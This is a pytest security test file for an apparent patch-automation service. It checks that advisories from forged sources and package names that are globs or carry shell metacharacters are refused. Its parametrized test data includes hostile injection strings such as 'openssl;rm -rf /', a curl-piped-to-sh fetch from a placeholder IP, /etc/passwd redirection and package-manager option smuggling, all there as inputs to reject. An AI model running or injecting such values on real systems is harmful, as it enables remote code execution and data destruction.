"""Events: only the real sources start runs, and an advisory names packages, nothing else.

Each test plays an attacker who can publish on the advisory path: a principal allowed to
`events:PutEvents` on the bus (any source it likes), the author of a PatchPilot advisory or of
the payload an Inspector finding carries, or whoever triggers a storm of findings. Nothing they
send may start a run from a forged source, install more than the packages named, reach a shell
on the machines, or cost one fleet discovery per event."""

from __future__ import annotations

import copy
import json
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import boto3
import pytest
from clocks import ManualClock
from fake_aws import Clients, FakeLambdaContext, FleetServices, moto_image
from moto_support import aws

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # the Lambda handlers live at the root

import patchpilot.app.discovery as discovery
import patchpilot.bootstrap.aws as runtime_module
from aws_lambda import advisory as advisory_function
from patchpilot.adapters.aws.dynamodb_store import table_definition
from patchpilot.adapters.aws.fleet import Ec2SsmFleet
from patchpilot.advisories import Advisory, Unactionable, parse_payload
from patchpilot.advisories.intake import answer_deliveries
from patchpilot.bootstrap.aws import deps
from patchpilot.engine.messages import FollowUpRequested, Notify
from patchpilot.engine.run import Run
from patchpilot.errors import InputError, format_path
from patchpilot.inventory import Instance
from patchpilot.policy import Policy, parse_policy

EVENTS = Path(__file__).resolve().parents[1] / "events" / "advisories"
ADVISORY = json.loads((EVENTS / "patchpilot_advisory_eventbridge.json").read_text())
FINDING = json.loads((EVENTS / "inspector_critical_openssl.json").read_text())
NOW = datetime(2025, 1, 15, 12, 0, tzinfo=UTC)
POLICY_TEXT = """
name: fleet
rings:
  - {name: staging, select: {tags: {Environment: staging}}}
  - {name: production, select: {tags: {Environment: production}}}
emergency: {min_severity: HIGH, soak: 15m, approval: auto}
"""
EMERGENCY_POLICY = parse_policy(POLICY_TEXT)
FLEET = [
    Instance(id=i, name=f"api-{n}", cloud="aws", region="ap-northeast-1", os="linux", tags={"Environment": e})
    for n, (i, e) in enumerate((("i-000000005eed1eef", "staging"), ("i-000000005eed5ccd", "production")))
]


def with_fixes(envelope: dict[str, Any], *fixes: str) -> dict[str, Any]:
    """The recorded PatchPilot advisory (EventBridge) asking for `fixes`."""
    event = copy.deepcopy(envelope)
    event["detail"]["fixes"] = list(fixes)
    return event


def finding_naming(name: str, platform: str = "AMAZON_LINUX_2023") -> dict[str, Any]:
    """The recorded Inspector finding whose second vulnerable package is called `name`."""
    event = copy.deepcopy(FINDING)
    event["detail"]["packageVulnerabilityDetails"]["vulnerablePackages"][1]["name"] = name
    event["detail"]["resources"][0]["details"]["awsEc2Instance"]["platform"] = platform
    event["detail"]["findingArn"] += "-forged"
    return event


def refusal(raw: Any) -> dict[str, str]:
    """The problems the parser names, by field."""
    with pytest.raises(InputError) as caught:
        parse_payload(raw)
    return {format_path(p.path): p.message for p in caught.value.problems}


@dataclass
class Intake:
    """`answer_deliveries` over in-memory ports, recording what it does."""

    started: list[tuple[str, list[str]]]
    discoveries: int = 0

    def __call__(self, raw: object) -> list[str]:
        def discover() -> list[Instance]:
            self.discoveries += 1
            return FLEET

        def start(run_id: str, policy: Policy, instances: list[Instance], **when: Any) -> Run:
            self.started.append((run_id, [i.id for i in instances]))
            from patchpilot.engine.decide import start_run
            from patchpilot.planning import plan

            return start_run(run_id, policy, plan(policy, instances), NOW).run

        def never(event: FollowUpRequested) -> None:
            raise AssertionError("no follow-up expected")

        def told(notice: Notify) -> None:
            pass

        answers = answer_deliveries(parse_payload(raw), EMERGENCY_POLICY, discover, Runs(), start, told, NOW, never)
        return [a.text for a in answers]


class Runs:
    def run_ids(self) -> list[str]:
        return []

    def load(self, run_id: str) -> Run:
        raise AssertionError("no run stored")


# ---------------------------------------------------------------- 1. the source


@pytest.mark.parametrize("source", ["com.example.security", "aws.inspector2", "patchpilot.advisory.evil", "PatchPilot"])
def test_advisory_from_another_source_is_refused(source: str) -> None:
    forged = {**ADVISORY, "source": source}
    intake = Intake(started=[])
    with pytest.raises(InputError) as caught:
        intake(forged)
    ((path, message),) = ((format_path(p.path), p.message) for p in caught.value.problems)
    assert path == "source"
    assert message == f'expected "patchpilot.advisory" (a PatchPilot Advisory\'s only source), got "{source}"'

    assert intake.started == [] and intake.discoveries == 0  # refused before anything is read or started
    # The same advisory from its one source starts its run.
    assert Intake(started=[])(ADVISORY)[0].startswith("Emergency run fleet-emergency-CVE-2025-0001-")


# ---------------------------------------------------------------- 2. the fixes


GLOBS = ["*", "openssl*", "openssl-?", "openssl[0-9]", "lib*ssl*"]


@pytest.mark.parametrize("fix", GLOBS)
def test_glob_fix_in_advisory_is_refused(fix: str) -> None:
    # On EventBridge, on Event Grid and bare (the CLI): the field is named, nothing is started.
    problems = refusal(with_fixes(ADVISORY, "openssl", fix))
    assert list(problems) == ["detail.fixes[1]"]
    assert problems["detail.fixes[1]"].startswith(f"{json.dumps(fix)} is not a package name: a glob")
    data = ADVISORY["detail"] | {"fixes": [fix]}
    event_grid = {"id": "e1", "eventType": "PatchPilot.Advisory", "eventTime": "2025-01-15T09:00:00Z", "data": data}
    assert list(refusal([event_grid])) == ["[0].data.fixes[0]"]
    assert list(refusal(data)) == ["fixes[0]"]
    intake = Intake(started=[])
    with pytest.raises(InputError):
        intake(with_fixes(ADVISORY, fix))
    assert intake.started == []
    # In an Inspector finding the finding is answered as not acted on, with the reason.
    (delivery,) = parse_payload(finding_naming(fix))
    assert isinstance(delivery, Unactionable) and "is not a package name: a glob" in delivery.reason
    # An operator's own policy may still select packages by glob.
    assert parse_policy(POLICY_TEXT + f"patches: {{include: [{json.dumps(fix)}]}}\n").patches.include == [fix]


METACHARACTERS = [
    "openssl;rm -rf /",
    "openssl|sh",
    "openssl&&id",
    "openssl&",
    "$(id)",
    "openssl$IFS",
    "`id`",
    "openssl'",
    'openssl"',
    "openssl<x",
    "openssl>/etc/passwd",
    "(openssl)",
    "{openssl,bash}",
    "openssl\\",
    "openssl rm",
    "openssl\trm",
    "openssl\nrm",
    "openssl#",
    "openssl!",
    "openssl,bash",
    "../../bin/sh",
    "-oAPT::Update::Pre-Invoke::=id",
    "--setopt=tsflags=noscripts",
]


@pytest.mark.parametrize("fix", METACHARACTERS)
def test_shell_metacharacters_in_fix_are_refused(fix: str) -> None:
    problems = refusal(with_fixes(ADVISORY, "openssl", "openssl-libs", fix))
    assert list(problems) == ["detail.fixes[2]"]  # the field named, e.g. "openssl;rm -rf /" is not a package name
    assert problems["detail.fixes[2]"].startswith(f"{json.dumps(fix)} is not a package name: ")


@pytest.mark.parametrize("name", ["openssl;rm -rf /", "$(curl -s https://203.0.113.9/x|sh)", "-y", "openssl libs"])
def test_shell_metacharacters_in_an_inspector_package_name_leave_the_finding_unactionable(name: str) -> None:
    # Inspector reports the packages installed on a machine: whoever can install one there names it,
    # and a finding's fixes are installed fleet-wide.
    good = copy.deepcopy(FINDING)
    bad = finding_naming(name)
    # A batch with the bad finding in it: the others are answered, the bad one is not acted on.
    ok, refused = parse_payload([good, bad])
    assert isinstance(ok, Advisory) and ok.fixes == ("openssl", "openssl-libs")
    assert isinstance(refused, Unactionable)
    field = "detail.packageVulnerabilityDetails.vulnerablePackages[1].name"
    assert refused.reason.startswith(f"{field}: {json.dumps(name)} is not a package name: ")
    intake = Intake(started=[])
    started, ignored = intake([good, bad])
    assert started.startswith("Emergency run") and ignored.startswith(f"Ignored: {field}: ")
    assert [ids for _, ids in intake.started] == [[i.id for i in FLEET]]  # one run, from the good finding


# ---------------------------------------------------------------- 3. a burst of findings

REGION = "ap-northeast-1"
TABLE = "patchpilot-runs"
BUCKET = "patchpilot-config-123456789012"
BURST_POLICY = f"""
name: tokyo
rings:
  - {{name: staging, select: {{tags: {{Environment: staging}}}}}}
  - {{name: production, select: {{tags: {{Environment: production}}}}}}
emergency: {{min_severity: HIGH, soak: 30m, approval: auto}}
aws: {{regions: [{REGION}]}}
"""
MACHINES = [(f"stg-{n}", "staging") for n in range(3)] + [(f"prd-{n}", "production") for n in range(7)]
CVES = [f"CVE-2025-{n:04d}" for n in range(1, 6)]
START = datetime(2026, 12, 8, 3, 0, tzinfo=UTC)


@dataclass
class Burst:
    discoveries: int  # Ec2SsmFleet.discover calls for the 50 findings
    discoveries_then: int  # and once the finding delivered again and one more, two minutes on, are answered
    describe_instances: int  # the EC2 API calls made before that last finding
    runs: dict[str, tuple[list[str], list[list[str]]]]  # run id -> its machines, its follow-ups' machines
    answers: list[str]


@pytest.fixture
def burst(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    def run(cache: bool) -> Burst:
        ttl = timedelta(seconds=60) if cache else timedelta(0)  # the cache as deployed, or none
        monkeypatch.setattr(discovery, "DISCOVERY_TTL", ttl)
        with aws():
            return _burst(monkeypatch)

    yield run
    deps.cache_clear()


def _burst(monkeypatch: pytest.MonkeyPatch) -> Burst:
    """The AdvisoryFunction of the stack on moto (its table, queue, bucket and policy, as
    template.yaml declares them), one warm container (`deps`), a fleet of ten Linux machines in
    EC2 (moto) with their SSM agents (`fake_aws`), and 50 Inspector findings in 50 seconds: one
    per machine for each of five CVEs, as Inspector sends them."""
    clock = ManualClock(START)
    boto3.client("dynamodb", region_name=REGION).create_table(**table_definition(TABLE))
    queue_url = boto3.client("sqs", region_name=REGION).create_queue(QueueName="patchpilot-steps")["QueueUrl"]
    s3 = boto3.client("s3", region_name=REGION)
    s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
    s3.put_object(Bucket=BUCKET, Key="policy.yaml", Body=BURST_POLICY.encode())
    services = FleetServices(clock, REGION)
    clients = Clients(services)
    ec2 = boto3.client("ec2", region_name=REGION)
    names: dict[str, str] = {}
    for name, environment in MACHINES:
        tags = [{"Key": "Name", "Value": name}, {"Key": "Environment", "Value": environment}]
        (launched,) = ec2.run_instances(
            ImageId=moto_image(REGION, "linux"),
            MinCount=1,
            MaxCount=1,
            TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
        )["Instances"]
        names[launched["InstanceId"]] = name
        services.manage(launched["InstanceId"], "linux")
    for key, value in {
        "PATCHPILOT_TABLE": TABLE,
        "PATCHPILOT_QUEUE_URL": queue_url,
        "PATCHPILOT_POLICY": f"s3://{BUCKET}/policy.yaml",
        "AWS_REGION": REGION,
        "POWERTOOLS_TRACE_DISABLED": "1",
        "POWERTOOLS_METRICS_NAMESPACE": "PatchPilot",
        "POWERTOOLS_SERVICE_NAME": "patchpilot",
    }.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setattr(runtime_module, "AwsSessions", lambda **_: clients)
    monkeypatch.setattr(runtime_module, "WallClock", lambda: clock)
    discoveries = []
    real_discover = Ec2SsmFleet.discover

    def counted(fleet: Ec2SsmFleet, policy: Policy) -> Any:
        discoveries.append(clock.now())
        return real_discover(fleet, policy)

    monkeypatch.setattr(Ec2SsmFleet, "discover", counted)
    deps.cache_clear()  # a cold container; every finding below reaches the same warm one
    context = FakeLambdaContext(function_name="patchpilot-advisory", region=REGION)
    answers: list[str] = []
    for n, (cve, instance_id) in enumerate((c, i) for c in CVES for i in names):
        clock.set(START + timedelta(seconds=n))
        result = advisory_function.handler(_finding(cve, instance_id, clock.now()), context)
        answers.extend(result["answers"])
    in_burst = len(discoveries)
    first = _finding(CVES[0], next(iter(names)), START)
    clock.set(START + timedelta(seconds=55))
    answers.extend(advisory_function.handler(first, context)["answers"])  # EventBridge delivers it again
    store = deps().store
    runs = {}
    for run_id in sorted(store.run_ids()):
        run = store.load(run_id)
        machines = sorted(names[r.id] for r in run.records())
        runs[run_id] = (machines, [sorted(names[i.id] for i in f.instances) for f in run.follow_ups])
    calls = sum(1 for _, service, op, _ in clients.calls if (service, op) == ("ec2", "DescribeInstances"))
    clock.set(START + timedelta(minutes=2))
    advisory_function.handler(first, context)  # past the minute: the fleet is discovered again
    return Burst(in_burst, len(discoveries), calls, runs, answers)


def _finding(cve: str, instance_id: str, at: datetime) -> dict[str, Any]:
    event = copy.deepcopy(FINDING)
    stamp = at.isoformat().replace("+00:00", "Z")
    event.update(region=REGION, time=stamp, resources=[instance_id])
    detail = event["detail"]
    detail["findingArn"] = f"arn:aws:inspector2:{REGION}:123456789012:finding/{cve}-{instance_id}"
    detail["updatedAt"] = stamp
    detail["packageVulnerabilityDetails"]["vulnerabilityId"] = cve
    detail["resources"][0].update(id=instance_id, region=REGION)
    return event


def test_burst_of_findings_costs_one_discovery(burst: Any) -> None:
    cached: Burst = burst(cache=True)
    assert cached.discoveries == 1, cached.discoveries
    assert cached.discoveries_then == 2  # the repeat within the minute reads none; one past it does
    uncached: Burst = burst(cache=False)  # what the burst cost before: a discovery per finding
    assert uncached.discoveries == 50
    assert cached.describe_instances * 51 == uncached.describe_instances
    # The same runs, the same machines, the same (no) follow-ups, the same answers.
    assert len(cached.runs) == len(CVES) and cached.runs == uncached.runs
    assert all(machines == sorted(n for n, _ in MACHINES) for machines, _ in cached.runs.values())
    assert cached.answers == uncached.answers
    assert sum(a.startswith("Emergency run") for a in cached.answers) == len(CVES)
    assert sum(a.startswith("Merged") for a in cached.answers) == 51 - len(CVES)  # the repeat merges too
